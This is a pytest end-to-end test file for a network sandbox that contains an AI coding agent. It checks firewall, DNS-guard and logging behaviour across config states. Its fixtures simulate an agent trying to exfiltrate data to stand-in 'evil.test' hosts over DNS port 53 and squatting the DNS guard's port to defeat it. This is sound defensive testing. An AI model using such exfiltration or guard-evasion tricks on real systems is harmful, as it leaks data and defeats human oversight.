"""What each config state does to the network, end to end through `copilot_here --engine
sandbox`, checked where the traffic lands:

    no config / disabled, no log   untouched: no rule, no proxy, no CA, no NET_ADMIN
    disabled, log                  TCP 80/443 through the interceptor (logged), all else untouched
    enabled (enforce / monitor)    the lock, and DNS only through the DNS guard

The net host runs the test internet (HTTPS/HTTP), a banner server on TCP 22 and
5432, a catcher on port 53 of its main address (records any byte that reaches it)
and the resolver at the address the sandbox's resolv.conf names (records every
query that leaves the sandbox). A probe in the sandbox prints one line per check
and an end marker; a check that never ran cannot pass.
"""

from __future__ import annotations

import json
import os
import queue
import shlex
import shutil
import tempfile
import threading
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from tests.harness import python_bin
from tests.harness.sandbox import (
    Internet,
    Resolver,
    Session,
    client_script,
    enforce,
    host_logs,
    request_loop,
    run_cli,
    write_config,
)

pytestmark = pytest.mark.e2e

RECORDS = {
    "www.allowed.test": ["198.18.0.81"],
    "secret-data.evil.test": ["198.18.0.66"],
    "tcp-secret.evil.test": ["198.18.0.67"],
    "monitor-secret.evil.test": ["198.18.0.68"],
}
UPSTREAM_CA = "/ca/upstream-ca.pem"  # the CLI mounts the test CA there (Internet.env)
FIREWALL = [
    *("/opt/secure-proxy/venv/bin/secure-proxy-firewall", "verify", "--proxy-user"),
    *("proxy-user", "--policy", "/run/secure-proxy/policy.json", "--dns-guard-port", "58053"),
]

NET_SERVICES = r"""
import socket, sys, threading
net = sys.argv[1]
def banner(port):
    s = socket.socket(socket.AF_INET6, socket.SOCK_STREAM)
    s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    s.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_V6ONLY, 0)
    s.bind(("::", port)); s.listen(50)
    while True:
        c, _ = s.accept(); c.sendall(b"net:%d" % port); c.close()
def catch_tcp():
    s = socket.socket(); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    s.bind((net, 53)); s.listen(50)
    while True:
        c, peer = s.accept(); c.settimeout(1)
        try: data = c.recv(200)
        except OSError: data = b""
        print("CAUGHT tcp", peer[0], data.hex(), flush=True); c.close()
def catch_udp():
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.bind((net, 53))
    while True:
        data, peer = s.recvfrom(200); print("CAUGHT udp", peer[0], data.hex(), flush=True)
for target, args in ((banner, (22,)), (banner, (5432,)), (catch_tcp, ()), (catch_udp, ())):
    threading.Thread(target=target, args=args, daemon=True).start()
print("READY", flush=True)
threading.Event().wait()
"""

# Other ports and DNS by name through the C library, as any program does.
PROBE = r"""
import json, socket, sys
net, names = sys.argv[1], sys.argv[2:]
for port in (22, 5432):
    try:
        with socket.create_connection((net, port), timeout=3) as s:
            got = s.recv(100).decode()
    except OSError as e:
        got = type(e).__name__
    print("PROBE", json.dumps({"tcp": port, "got": got}), flush=True)
for name in names:
    try:
        got = sorted({a[4][0] for a in socket.getaddrinfo(name, 443, socket.AF_INET)})
    except socket.gaierror as e:
        got = "gaierror"
    print("PROBE", json.dumps({"name": name, "got": got}), flush=True)
print("PROBE-END", flush=True)
"""

# What an agent would try on port 53 to get data out without a resolver's blessing.
ATTACKS = r"""
import json, random, socket, struct, sys
net, resolver = sys.argv[1], sys.argv[2]
def query(name):
    labels = b"".join(bytes([len(x)]) + x.encode() for x in name.split("."))
    head = struct.pack("!HHHHHH", random.randrange(65536), 0x0100, 1, 0, 0, 0)
    return head + labels + b"\0" + struct.pack("!HH", 1, 1)
def report(key, fn):
    try:
        got = fn()
    except OSError as e:
        got = type(e).__name__
    print("ATTACK", json.dumps({key: got}), flush=True)
def tcp_query():
    with socket.create_connection((resolver, 53), timeout=3) as s:
        q = query("tcp-secret.evil.test"); s.sendall(struct.pack("!H", len(q)) + q)
        head = s.recv(2); body = s.recv(struct.unpack("!H", head)[0])
        return "rcode %d" % (body[3] & 0xF)
def tcp_junk():
    with socket.create_connection((net, 53), timeout=3) as s:
        junk = b"GET /exfil?data=secret-data HTTP/1.1\r\n\r\n"
        s.sendall(struct.pack("!H", len(junk)) + junk)
        return s.recv(100).hex() or "closed"
def udp_junk():
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as u:
        u.settimeout(2); u.sendto(b"exfil:secret-data", (net, 53))
        return u.recv(100).hex() or "empty"
report("tcp_query", tcp_query)
report("tcp_junk", tcp_junk)
report("udp_junk", udp_junk)
print("ATTACK-END", flush=True)
"""


class Net:
    """The net host's extra services and what they saw."""

    def __init__(self, internet: Internet, resolver: Resolver, catcher: Any) -> None:
        self.internet = internet
        self.ip = internet.topo.net_ip
        self.resolver = resolver
        self.caught: queue.Queue[str] = queue.Queue()

        def pump() -> None:
            for line in catcher.stdout:
                if line.startswith("CAUGHT"):
                    self.caught.put(line.strip())

        threading.Thread(target=pump, daemon=True).start()

    def caught_lines(self, wait: float = 0.5) -> list[str]:
        time.sleep(wait)
        out = []
        while not self.caught.empty():
            out.append(self.caught.get())
        return out


@pytest.fixture(scope="module")
def net(module_topology, staged_source) -> Iterator[Net]:
    work = Path(tempfile.mkdtemp(prefix="sp-states-", dir="/tmp"))
    os.chmod(work, 0o755)
    internet = Internet.start(module_topology, work, staged_source)
    resolver = Resolver.start(module_topology, RECORDS, staged_source)
    catcher = module_topology.net_popen(
        [python_bin(), "-c", NET_SERVICES, module_topology.net_ip], text=True
    )
    assert catcher.stdout.readline().strip() == "READY"
    yield Net(internet, resolver, catcher)
    shutil.rmtree(work, ignore_errors=True)


def traffic(project: Path) -> list[dict]:
    """The log's records, one per request or query (an HTTP request's start line is
    followed by its end line: the end line stands for it)."""
    log = host_logs(project) / "traffic.jsonl"
    if not log.exists():
        return []
    records = [json.loads(line) for line in log.read_text().splitlines() if line.strip()]
    return [r for r in records if r.get("phase") != "start"]


def marked(lines: list[str], tag: str) -> dict[str, Any]:
    """The JSON of every `TAG {...}` line, merged; the probe must have reached TAG-END."""
    assert f"{tag}-END" in lines, lines
    out: dict[str, Any] = {}
    for line in lines:
        if line.startswith(f"{tag} "):
            item = json.loads(line.split(" ", 1)[1])
            if "got" in item:
                out[str(item.get("tcp", item.get("name")))] = item["got"]
            else:
                out.update(item)
    return out


def probe(net: Net, *names: str) -> list[str]:
    return [python_bin(), "-c", PROBE, net.ip, *names]


def stdout_lines(s: Session, until: str, timeout: float = 60) -> list[str]:
    lines = []
    deadline = time.monotonic() + timeout
    while True:
        line = s.next_line(timeout=max(0.1, deadline - time.monotonic()))
        assert line is not None, (lines, s.stderr)
        lines.append(line)
        if line == until:
            return lines


def our_rules(s: Session) -> str:
    """Every rule of ours in the sandbox, IPv4 and IPv6, legacy and nft."""
    out = ""
    for tool in ("iptables-legacy-save", "ip6tables-legacy-save", "iptables-nft-save"):
        out += s.root([tool]).stdout
    return "\n".join(line for line in out.splitlines() if "SECURE_PROXY" in line)


def network_lines(stderr: str) -> list[str]:
    return [line for line in stderr.splitlines() if line.startswith("[Network]")]


# --------------------------------------------------------------------------- inactive


def test_no_config_is_untouched_and_needs_no_net_admin(net, project):
    net.resolver.names(0)
    script = (
        f"curl -s -o /dev/null -w 'HTTPS %{{http_code}}\\n' --cacert {UPSTREAM_CA} "
        "--max-time 5 https://evil.test/direct; "
        "for v in SSL_CERT_FILE NODE_EXTRA_CA_CERTS; do printenv $v >/dev/null && echo ENV $v; "
        "done; test -e /ca/certs/ca.pem && echo CA-PUBLISHED; "
        + shlex.join(probe(net, "secret-data.evil.test"))
        + "; sleep 30"
    )
    with Session(project, ["--cap-drop", "NET_ADMIN", "--", "sh", "-c", script], net.internet) as s:
        lines = stdout_lines(s, "PROBE-END")
        # The server's own certificate: nothing in between. No CA of ours anywhere.
        assert "HTTPS 200" in lines, lines
        assert not [ln for ln in lines if ln.startswith(("ENV ", "CA-PUBLISHED"))], lines
        got = marked(lines, "PROBE")
        assert got["22"] == "net:22" and got["5432"] == "net:5432", got
        assert got["secret-data.evil.test"] == ["198.18.0.66"], got
        assert net.resolver.names() == ["secret-data.evil.test"]
        assert our_rules(s) == ""
        status = s.root(
            [
                "sh",
                "-c",
                "ls -A /run/secure-proxy 2>&1; ps -eo args | grep '[s]upervisor'; echo END",
            ]
        )
        assert status.stdout.splitlines()[-2:] == [
            "ls: cannot access '/run/secure-proxy': No such file or directory",
            "END",
        ], status
    assert network_lines(s.stderr) == [
        "[Network] Sign-in: none: copilot will ask you to /login",  # the CLI's, on the host
        "[Network] Inactive (no config found): allow-all, nothing logged, network untouched",
    ], s.stderr
    assert traffic(project) == []


def test_disabled_with_log_intercepts_web_ports_only(net, project):
    write_config(project, {"enabled": False, "log_to_file": True})
    net.resolver.names(0)
    script = (
        "curl -s -o /dev/null -w 'HTTPS %{http_code}\\n' --max-time 5 https://evil.test/logged; "
        + shlex.join(probe(net, "secret-data.evil.test"))
        + "; sleep 30"
    )
    with Session(project, ["--", "sh", "-c", script], net.internet) as s:
        lines = stdout_lines(s, "PROBE-END")
        assert "HTTPS 200" in lines, lines
        got = marked(lines, "PROBE")
        assert got["22"] == "net:22" and got["5432"] == "net:5432", got
        assert got["secret-data.evil.test"] == ["198.18.0.66"], got
        assert net.resolver.names() == ["secret-data.evil.test"]
        rules = our_rules(s)
        assert "SECURE_PROXY_NAT" in rules and "--dport 53" not in rules, rules
        assert "SECURE_PROXY_OUT" not in rules and "SECURE_PROXY_IN" not in rules, rules
        running = s.program_states()
        assert running["interceptor"] == "RUNNING" and running["dnsguard"] != "RUNNING", running
    records = traffic(project)
    assert [(r.get("kind", "http"), r["host"], r["path"]) for r in records] == [
        ("http", "evil.test", "/logged")
    ], records


# --------------------------------------------------------------------------- rules: DNS


def test_enforce_sends_dns_through_the_guard(net, project):
    write_config(project, enforce("*.allowed.test"))
    net.resolver.names(0)
    net.caught_lines(0)
    script = (
        shlex.join(probe(net, "secret-data.evil.test", "www.allowed.test"))
        + "; "
        + shlex.join([python_bin(), "-c", ATTACKS, net.ip, net.resolver.addresses[0]])
    )
    r = run_cli(project, ["--", "sh", "-c", script], net.internet)
    assert r.returncode == 0, r.stderr
    lines = r.stdout.splitlines()
    got = marked(lines, "PROBE")
    assert got["22"] == "ConnectionRefusedError", got  # the lock
    assert got["secret-data.evil.test"] == "gaierror", got
    assert got["www.allowed.test"] == ["198.18.0.81"], got
    attacks = marked(lines, "ATTACK")
    assert attacks["tcp_query"] == "rcode 3", attacks  # NXDOMAIN from the guard
    assert attacks["tcp_junk"] in ("closed", "ConnectionResetError"), attacks
    assert attacks["udp_junk"] == "TimeoutError", attacks
    # At the resolver: only the allowed name; at the net host's port 53: nothing.
    assert set(net.resolver.names()) == {"www.allowed.test"}
    assert net.caught_lines() == []
    dns = {(x["host"], x["action"]) for x in traffic(project) if x.get("kind") == "dns"}
    assert ("secret-data.evil.test", "BLOCK") in dns, dns
    assert ("tcp-secret.evil.test", "BLOCK") in dns, dns
    assert ("www.allowed.test", "ALLOW") in dns, dns


def test_monitor_forwards_and_logs_dns(net, project):
    config = enforce("*.allowed.test")
    config["mode"] = "monitor"
    write_config(project, config)
    net.resolver.names(0)
    r = run_cli(project, ["--", *probe(net, "monitor-secret.evil.test")], net.internet)
    assert r.returncode == 0, r.stderr
    got = marked(r.stdout.splitlines(), "PROBE")
    assert got["monitor-secret.evil.test"] == ["198.18.0.68"], got
    assert net.resolver.names() == ["monitor-secret.evil.test"]
    dns = [x for x in traffic(project) if x.get("kind") == "dns"]
    assert [(x["host"], x["violation"]) for x in dns] == [("monitor-secret.evil.test", True)], dns


LOOKUP_LOOP = r"""
import json, socket, sys, time
print("LOOKUP-START", flush=True)
end = time.monotonic() + float(sys.argv[1])
while time.monotonic() < end:
    for name in sys.argv[2:]:
        try:
            got = sorted({a[4][0] for a in socket.getaddrinfo(name, 443, socket.AF_INET)})
        except socket.gaierror:
            got = []
        print(json.dumps({"t": time.time(), "name": name, "got": got}), flush=True)
    time.sleep(0.1)
"""


def test_dnsguard_restarts_alone(net, project):
    write_config(project, enforce("*.allowed.test"))
    names = ["www.allowed.test", "secret-data.evil.test"]
    args = ["--", python_bin(), "-c", LOOKUP_LOOP, "40", *names]
    net.resolver.names(0)
    with Session(project, args, net.internet) as s:
        s.wait_for(lambda line: line == "LOOKUP-START")

        def pid(name: str) -> str:
            return s.root(["supervisorctl", "pid", name]).stdout.strip()

        def resolved_after(t0: float) -> None:
            while True:
                entry = json.loads(s.wait_for(lambda ln: ln.startswith("{")))
                if entry["t"] > t0 and entry["name"] == names[0] and entry["got"]:
                    return
                assert time.time() - t0 < 15, "never resolved after the restart"

        resolved_after(0)
        interceptor, guard = pid("interceptor"), pid("dnsguard")
        assert guard.isdigit() and interceptor.isdigit()
        restart = s.root(["supervisorctl", "restart", "dnsguard"])
        assert restart.returncode == 0, restart.stdout + restart.stderr
        t0 = time.time()
        resolved_after(t0)
        assert pid("dnsguard") not in (guard, "", "0")
        assert pid("interceptor") == interceptor
        verify = s.root(FIREWALL)
        assert verify.returncode == 0, verify.stdout + verify.stderr
    # Before, during and after the restart, the other name never left the sandbox.
    assert "secret-data.evil.test" not in net.resolver.names()


# --------------------------------------------------------------------------- live switch


def _first(s: Session, url: str, status: int, since: float, limit: float = 10) -> float:
    while True:
        entry = json.loads(s.wait_for(lambda ln: ln.startswith("{")))
        if entry["t"] >= since and entry["url"] == url and entry["status"] == status:
            return entry["t"]
        assert time.time() - since < limit, f"{url} never answered {status}"


def _all_for(s: Session, expect: dict[str, int], seconds: float) -> None:
    end = time.time() + seconds
    while time.time() < end:
        entry = json.loads(s.wait_for(lambda ln: ln.startswith("{")))
        assert entry["status"] == expect[entry["url"]], entry


def test_writable_config_switches_rules_on_and_off_during_the_run(net, project):
    home = Path(tempfile.mkdtemp(prefix="sp-home-", dir="/tmp"))
    os.chmod(home, 0o755)
    try:
        config = write_config(home, {"enabled": False})
        blocked, allowed = "https://evil.test/switch", "https://api.github.com/switch"
        loop = request_loop([blocked, allowed], 0.05, 60, extra_ca=UPSTREAM_CA)
        args = ["--network-config-write", "--", *loop]
        with Session(project, args, net.internet, env={"HOME": str(home)}) as s:
            s.wait_for(lambda line: line == "LOOP-START")
            _all_for(s, {blocked: 200, allowed: 200}, 1.0)
            assert our_rules(s) == ""
            running = s.program_states()
            assert running["reloader"] == "RUNNING", running
            assert running["interceptor"] != "RUNNING" and running["dnsguard"] != "RUNNING"

            # Rules on: the lock, the interceptor and the DNS guard come up.
            t0 = time.time()
            config.write_text(json.dumps(enforce("api.github.com")))
            _first(s, blocked, 403, t0)
            _all_for(s, {blocked: 403, allowed: 200}, 2.0)
            rules = our_rules(s)
            assert "SECURE_PROXY_OUT" in rules and "--to-ports 58053" in rules, rules
            running = s.program_states()
            assert running["dnsguard"] == running["interceptor"] == "RUNNING", running
            # An edit may add a ports rule later: the port keeper runs with the level.
            assert running["portkeeper"] == "RUNNING", running
            verify = s.root(FIREWALL)
            assert verify.returncode == 0, verify.stdout + verify.stderr

            # Off again: untouched, the services stopped.
            t0 = time.time()
            config.write_text(json.dumps({"enabled": False}))
            _first(s, blocked, 200, t0)
            _all_for(s, {blocked: 200, allowed: 200}, 1.0)
            assert our_rules(s) == ""
            # The services stop after the firewall has removed and verified: on a loaded
            # machine that verify may still run when the traffic already flows freely.
            deadline = time.monotonic() + 15
            while True:
                running = s.program_states()
                up = sorted(n for n, st in running.items() if st == "RUNNING")
                if up == ["logguard", "reloader"]:
                    break
                log = s.root(["cat", "/var/log/secure-proxy/reloader.log"]).stdout
                assert time.monotonic() < deadline, (running, log)
                time.sleep(0.2)
        # The CLI's Sign-in and the init's start-up line (the end-of-run line about what
        # was blocked during the run comes after them).
        start = [x for x in network_lines(s.stderr) if " this run: " not in x]
        assert len(start) == 2, s.stderr
        assert "takes effect live" in start[1]
    finally:
        shutil.rmtree(home, ignore_errors=True)


# The agent, free at level none between two switches, takes the DNS guard's loopback
# port (UDP and TCP) so that the guard the next switch starts cannot bind.
DNS_SQUATTER = r"""
import os, socket, time
print("UP", flush=True)
while not os.path.exists("/tmp/squat"):
    time.sleep(0.05)
held = []
for kind in (socket.SOCK_DGRAM, socket.SOCK_STREAM):
    sock = socket.socket(socket.AF_INET, kind)
    sock.bind(("127.0.0.1", 58053))
    if kind == socket.SOCK_STREAM:
        sock.listen(8)
    held.append(sock)
print("SQUATTING", flush=True)
while not os.path.exists("/tmp/end"):
    time.sleep(0.05)
print("END", flush=True)
"""


def test_a_switch_back_to_rules_waits_for_the_new_dns_guard_not_its_old_marker(net, project):
    """Rules on, off, on again: the DNS guard stopped at "off" left its readiness marker,
    which passed for the new guard's readiness at once. Here the new guard cannot bind
    (the agent holds its port): the reloader must say the level is in force failing
    closed, not that all is well."""
    write_config(project, enforce("api.github.com"))
    argv = ["--network-config-write", "--", *client_script(DNS_SQUATTER)]
    with Session(project, argv, net.internet) as s:
        s.wait_for(lambda ln: ln == "UP")

        def reloader_lines(text: str, limit: float = 30) -> list[str]:
            deadline = time.monotonic() + limit
            while True:
                log = s.root(["cat", "/var/log/secure-proxy/reloader.log"]).stdout
                lines = [ln for ln in log.splitlines() if text in ln]
                if lines:
                    return lines
                assert time.monotonic() < deadline, log
                time.sleep(0.2)

        write_config(project, {"enabled": False}, approve=False)
        reloader_lines("firewall level none in force")
        deadline = time.monotonic() + 15
        while s.program_states().get("dnsguard") == "RUNNING":
            assert time.monotonic() < deadline, s.program_states()
            time.sleep(0.2)
        # What the stopped guard leaves: the condition this test is about.
        marker = "/run/secure-proxy/interceptor/dnsguard.ready"
        assert s.root(["test", "-e", marker]).returncode == 0

        assert s.root(["touch", "/tmp/squat"]).returncode == 0
        s.wait_for(lambda ln: ln == "SQUATTING")
        write_config(project, enforce("api.github.com"), approve=False)
        [line] = reloader_lines("firewall level full in force")
        assert "failing closed" in line and "dnsguard" in line, line
        assert s.root(["touch", "/tmp/end"]).returncode == 0
        s.wait_for(lambda ln: ln == "END")
        assert s.wait(timeout=30) == 0, s.stderr
